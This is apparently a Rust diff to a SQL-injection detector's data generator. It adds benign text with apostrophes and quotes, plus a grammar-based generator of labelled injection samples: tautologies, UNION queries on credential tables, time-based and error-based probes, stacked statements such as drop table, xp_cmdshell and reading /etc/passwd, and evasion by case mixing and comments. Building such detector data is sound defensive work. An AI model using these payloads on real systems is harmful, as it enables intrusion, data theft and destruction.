@@ -483,6 +483,71 @@ const FIXED: &[&str] = &[
     "Ben & Jerry's",
 ];
 
+/// Words and names with an apostrophe before a word SQL knows: French and
+/// Italian elisions, brands, places.
+const ELISIONS: &[&str] = &[
+    "d'Or",
+    "L'Or",
+    "l'Or",
+    "L'Union",
+    "l'union",
+    "d'Orsay",
+    "l'Ordre",
+    "L'Oréal",
+    "d'Artagnan",
+    "Jeanne d'Arc",
+    "l'Andana",
+    "dell'Orto",
+    "L'Occitane",
+    "c'est",
+    "qu'on",
+    "j'ai",
+    "n'est",
+    "s'il",
+    "aujourd'hui",
+    "D'Angelo",
+    "O'Connor",
+    "l'Or Noir",
+    "d'Or ou d'Argent",
+    "l'Union et l'Ordre",
+];
+
+/// Everyday text where quotes, double hyphens and feet-and-inches marks
+/// sit next to words SQL knows: "Ballon d'Or", `5' 10"`, "well--maybe",
+/// "press 'OR' or 'AND'".
+fn prose_with_marks(r: &mut Rng) -> String {
+    let w = r.pick(WORDS);
+    match r.below(9) {
+        0 => r.pick(ELISIONS).to_string(),
+        1 => format!(
+            "{} {}",
+            r.pick(
+                ["Ballon", "Côte", "Champs", "Café", "Hôtel", "Rue", "Place", "Prix"].as_slice()
+            ),
+            r.pick(ELISIONS)
+        ),
+        2 => format!("{} {}", r.pick(ELISIONS), sentence(r)),
+        3 => match r.below(4) {
+            0 => format!("{}' {}\"", 4 + r.below(3), r.below(12)),
+            1 => format!("{}'{}\"", 4 + r.below(3), r.below(12)),
+            2 => format!(
+                "{}\" {}",
+                7 + r.below(12),
+                r.pick(["pizza", "screen", "pipe", "monitor", "TV", "or larger"].as_slice())
+            ),
+            _ => format!("{}' x {}' room", 2 + r.below(20), 2 + r.below(20)),
+        },
+        4 => format!("{w}--{}", r.pick(WORDS)),
+        5 => format!("{} -- {}", sentence(r), sentence(r)),
+        6 => format!(
+            "the '{w}' {}",
+            r.pick(["button", "option", "tab", "field", "key", "word"].as_slice())
+        ),
+        7 => format!("'{w}' or '{}'", r.pick(WORDS)),
+        _ => format!("type \"{w}\" or \"{}\"", r.pick(WORDS)),
+    }
+}
+
 fn uuid(r: &mut Rng) -> String {
     let h = format!("{:016x}{:016x}", r.next(), r.next());
     format!(
@@ -543,7 +608,7 @@ pub fn benign_corpus(seed: u64, n: usize) -> Vec<Sample> {
     let mut r = Rng::new(seed);
     let mut out = Vec::with_capacity(n);
     for _ in 0..n {
-        let v = match r.below(20) {
+        let v = match r.below(21) {
             0 | 1 => format!("{} {}", r.pick(FIRST), r.pick(LAST)),
             2..=6 => sentence(&mut r),
             7 => format!("{}, {}", 1 + r.below(300), r.pick(STREETS)),
@@ -637,6 +702,7 @@ pub fn benign_corpus(seed: u64, n: usize) -> Vec<Sample> {
             15 => format!("${}.{:02}", r.below(2000), r.below(100)),
             16 | 17 => r.pick(FIXED).to_string(),
             18 => format!("/{}/{}/{}.html", r.pick(WORDS), r.pick(WORDS), r.below(500)),
+            19 => prose_with_marks(&mut r),
             _ => format!("{} {}", r.pick(FIXED), sentence(&mut r)),
         };
         out.push(Sample {
@@ -648,11 +714,20 @@ pub fn benign_corpus(seed: u64, n: usize) -> Vec<Sample> {
     out
 }
 
-/// Stacked statements, generated from SQL grammar: an escape from the value's
-/// context, a statement separator, a data-definition or administration
-/// statement, and a comment. The sqlmap-generated data has few of these.
-pub fn stacked_sqli_corpus(seed: u64, n: usize) -> Vec<Sample> {
-    const ESCAPES: &[&str] = &["1", "1'", "1\"", "'", "\"", "')", "1)", "x'", "abc", "0x1"];
+/// The source name of [`sqli_corpus`] samples.
+pub const GENERATED_SQLI: &str = "generated-sqli";
+
+/// SQL injections generated from SQL grammar, one technique family at a
+/// time, so that the model learns the grammar of an injection rather than
+/// the habits of one tool (the httpparams attacks are all sqlmap's): an
+/// optional value, an escape from the value's context (none, a quote, a
+/// parenthesis), a payload of one family (tautology, UNION, ORDER/GROUP BY
+/// probe, boolean and time-based blind, error-based, stacked statement,
+/// a whole statement), a comment or nothing, then an obfuscation (case
+/// mixing, comments or `+` for spaces, versioned comments).
+pub fn sqli_corpus(seed: u64, n: usize) -> Vec<Sample> {
+    const VALUES: &[&str] = &["", "", "1", "-1", "0", "10", "admin", "x", "abc", "99999"];
+    const ESCAPES: &[&str] = &["", "'", "'", "\"", ")", "')", "\")", "'))", "`"];
     const TABLES: &[&str] = &[
         "users",
         "accounts",
@@ -662,44 +737,225 @@ pub fn stacked_sqli_corpus(seed: u64, n: usize) -> Vec<Sample> {
         "members",
         "dbo.users",
         "sessions",
+        "information_schema.tables",
+        "mysql.user",
+        "pg_shadow",
+        "sysobjects",
+        "all_tables",
     ];
-    const COMMENTS: &[&str] = &["--", "-- -", "#", "/*", ";--", "", ";"];
+    const COLUMNS: &[&str] = &[
+        "username",
+        "password",
+        "name",
+        "email",
+        "table_name",
+        "column_name",
+        "uid",
+        "pass",
+        "login",
+        "1",
+        "null",
+        "@@version",
+        "version()",
+        "user()",
+        "database()",
+        "current_user",
+    ];
+    const SLEEPS: &[&str] = &[
+        "sleep(5)",
+        "sleep(10)",
+        "benchmark(5000000,md5(1))",
+        "pg_sleep(5)",
+        "dbms_pipe.receive_message('a',5)",
+        "randomblob(500000000)",
+    ];
+    const INFO: &[&str] = &[
+        "version()",
+        "@@version",
+        "user()",
+        "database()",
+        "current_user",
+        "system_user",
+        "@@hostname",
+        "db_name()",
+        "banner",
+    ];
+    const COMMENTS: &[&str] = &["", "", "--", "-- -", "--+", "#", "/*", ";--", ";", "-- x"];
     let mut r = Rng::new(seed ^ 0x5157_4c49);
     let mut out = Vec::with_capacity(n);
     for _ in 0..n {
+        let esc = r.pick(ESCAPES);
+        let quote = esc.chars().find(|c| matches!(c, '\'' | '"' | '`'));
+        // A payload may end in an open literal that the query's own closing
+        // quote completes (`' or 'a'='a`), when there is no comment.
+        let q = quote.map(String::from).unwrap_or_default();
         let t = r.pick(TABLES);
-        let stmt = match r.below(12) {
-            0 => format!("drop table {t}"),
-            1 => format!("delete from {t}"),
-            2 => format!("insert into {t} values(1,'x','y')"),
-            3 => format!("update {t} set password='x' where 1=1"),
-            4 => "shutdown".to_string(),
-            5 => "exec xp_cmdshell('ping 10.0.0.1')".to_string(),
-            6 => "declare @q varchar(99) set @q='x' exec(@q)".to_string(),
-            7 => "create user hacker identified by 'p'".to_string(),
-            8 => format!("truncate table {t}"),
-            9 => "grant all privileges on *.* to 'x'@'%'".to_string(),
-            10 => format!("select * from {t}"),
-            _ => "waitfor delay '0:0:5'".to_string(),
-        };
-        let stmt: String = stmt
-            .chars()
-            .map(|c| {
-                if r.below(2) == 0 {
-                    c.to_ascii_uppercase()
+        let c = r.pick(COLUMNS);
+        let n_cols = 1 + r.below(6);
+        let logic = ["or", "and", "||", "&&", "xor", "or not"][r.below(6)];
+        let family = r.below(10);
+        let payload = match family {
+            0 | 1 => {
+                let cond = match r.below(14) {
+                    12 => format!("({q}x{q})=({q}x"),
+                    13 => format!("{q}x{q}={q}x{q} {logic} {q}a"),
+                    0 => "1=1".to_string(),
+                    1 => "1=2".to_string(),
+                    2 => format!("{q}a{q}={q}a"),
+                    3 => "x=x".to_string(),
+                    4 => "true".to_string(),
+                    5 => "2>1".to_string(),
+                    6 => format!("{c} like {q}%"),
+                    7 => "1 in (1,2)".to_string(),
+                    8 => "1 between 0 and 2".to_string(),
+                    9 => format!("{q}{q}={q}"),
+                    10 => format!("{q}x{q} like {q}x"),
+                    _ => format!("{}={}", r.below(100), r.below(100)),
+                };
+                format!("{logic} {cond}")
+            }
+            2 | 3 => {
+                let cols: Vec<String> = (0..n_cols)
+                    .map(|i| match r.below(4) {
+                        0 => "null".to_string(),
+                        1 => (i + 1).to_string(),
+                        2 => c.to_string(),
+                        _ => r.pick(INFO).to_string(),
+                    })
+                    .collect();
+                let from = if r.below(2) == 0 {
+                    format!(" from {t}")
                 } else {
-                    c
-                }
-            })
-            .collect();
-        let sep = if r.below(3) == 0 { ";" } else { "; " };
+                    String::new()
+                };
+                let all = if r.below(3) == 0 { " all" } else { "" };
+                format!("union{all} select {}{from}", cols.join(","))
+            }
+            4 => {
+                let by = if r.below(3) == 0 { "group" } else { "order" };
+                let dir = ["", " asc", " desc", ",1"][r.below(4)];
+                format!("{by} by {}{dir}", 1 + r.below(30))
+            }
+            5 => match r.below(4) {
+                0 => format!("{logic} {}", r.pick(SLEEPS)),
+                1 => format!("; waitfor delay '0:0:{}'", 1 + r.below(9)),
+                2 => format!("{logic} if(1=1,{},0)", r.pick(SLEEPS)),
+                _ => format!(
+                    "{logic} (select {} from (select(sleep({})))a)",
+                    r.below(9999),
+                    1 + r.below(9)
+                ),
+            },
+            6 => match r.below(4) {
+                0 => format!("and extractvalue(1,concat(0x7e,{}))", r.pick(INFO)),
+                1 => format!("and updatexml(1,concat(0x7e,({}),0x7e),1)", r.pick(INFO)),
+                2 => format!("and 1=convert(int,{})", r.pick(INFO)),
+                _ => format!("and 1=cast({} as int)", r.pick(INFO)),
+            },
+            7 => match r.below(4) {
+                0 => format!(
+                    "{logic} ascii(substring((select {c} from {t} limit 1),{},1))>{}",
+                    1 + r.below(9),
+                    32 + r.below(90)
+                ),
+                1 => format!("{logic} (select count(*) from {t})>{}", r.below(9)),
+                2 => format!("{logic} length({})={}", r.pick(INFO), 1 + r.below(20)),
+                _ => format!("{logic} substr({},1,1)={q}{}", r.pick(INFO), r.below(10)),
+            },
+            8 => {
+                let stmt = match r.below(20) {
+                    12 => format!("create table {t} (c text)"),
+                    13 => format!("alter table {t} add c int"),
+                    14 => "grant connect to x; grant dba to x".to_string(),
+                    15 => "backup database master to disk='\\\\10.0.0.1\\x\\db.bak'".to_string(),
+                    16 => format!("copy {t} to '/tmp/x'"),
+                    17 => format!("select * from {t} into outfile '/tmp/x'"),
+                    18 => format!("load data infile '/etc/passwd' into table {t}"),
+                    19 => "set @a=1".to_string(),
+                    0 => format!("drop table {t}"),
+                    1 => format!("delete from {t}"),
+                    2 => format!("insert into {t} values(1,'x','y')"),
+                    3 => format!("update {t} set password='x' where 1=1"),
+                    4 => "shutdown".to_string(),
+                    5 => "exec xp_cmdshell('ping 10.0.0.1')".to_string(),
+                    6 => "declare @q varchar(99) set @q='x' exec(@q)".to_string(),
+                    7 => "create user hacker identified by 'p'".to_string(),
+                    8 => format!("truncate table {t}"),
+                    9 => "grant all privileges on *.* to 'x'@'%'".to_string(),
+                    10 => format!("select * from {t}"),
+                    _ => "waitfor delay '0:0:5'".to_string(),
+                };
+                // SQL Server runs a batch's statements without a separator.
+                format!("{}{stmt}", [";", "; ", ""][r.below(3)])
+            }
+            _ => match r.below(9) {
+                7 => format!("create table {t} (c text);"),
+                8 => "grant dba to x;".to_string(),
+                0 => format!("select {}", r.pick(INFO)),
+                1 => format!("select * from {t}"),
+                2 => format!("select {c} from {t} where 1=1"),
+                3 => "exec master..xp_cmdshell 'dir'".to_string(),
+                4 => "select load_file('/etc/passwd')".to_string(),
+                5 => format!("copy {t} from '/etc/passwd'"),
+                _ => format!("select {c},{c} from {t} limit 1"),
+            },
+        };
+        let whole = family == 9;
+        let lead = if whole { "" } else { r.pick(VALUES) };
+        let esc = if whole { "" } else { esc };
+        let sep = if esc.is_empty() && lead.is_empty() {
+            ""
+        } else {
+            " "
+        };
+        let comment = if whole { "" } else { r.pick(COMMENTS) };
+        let raw = format!(
+            "{lead}{esc}{sep}{payload}{}{comment}",
+            if comment.is_empty() { "" } else { " " }
+        );
+        let v = obfuscate(&mut r, raw.trim_end());
         out.push(Sample {
-            value: format!("{}{sep}{stmt}{}", r.pick(ESCAPES), r.pick(COMMENTS)),
+            value: v,
             kind: Kind::Sqli,
-            source: "generated-stacked-sqli".into(),
+            source: GENERATED_SQLI.into(),
         });
     }
     out
+}
+
+/// Case mixing and the space substitutes SQL accepts (`/**/`, `+` in a
+/// URL, tab, newline); one value in four is left as written.
+fn obfuscate(r: &mut Rng, v: &str) -> String {
+    let case = r.below(4);
+    let space = match r.below(8) {
+        0 => "/**/",
+        1 => "+",
+        2 => "\t",
+        3 => "\n",
+        4 => "  ",
+        _ => " ",
+    };
+    let mut s = String::with_capacity(v.len() + 8);
+    for c in v.chars() {
+        match c {
+            ' ' => s.push_str(space),
+            c if case == 1 => s.push(c.to_ascii_uppercase()),
+            c if case == 2 && r.below(2) == 0 => s.push(c.to_ascii_uppercase()),
+            c => s.push(c),
+        }
+    }
+    if r.below(10) == 0 {
+        // MySQL's versioned comment around the first keyword.
+        for k in [
+            "union", "UNION", "select", "SELECT", "or", "OR", "and", "AND",
+        ] {
+            if let Some(i) = s.find(k) {
+                s.replace_range(i..i + k.len(), &format!("/*!50000{k}*/"));
+                break;
+            }
+        }
+    }
+    s
 }
 
 #[cfg(test)]
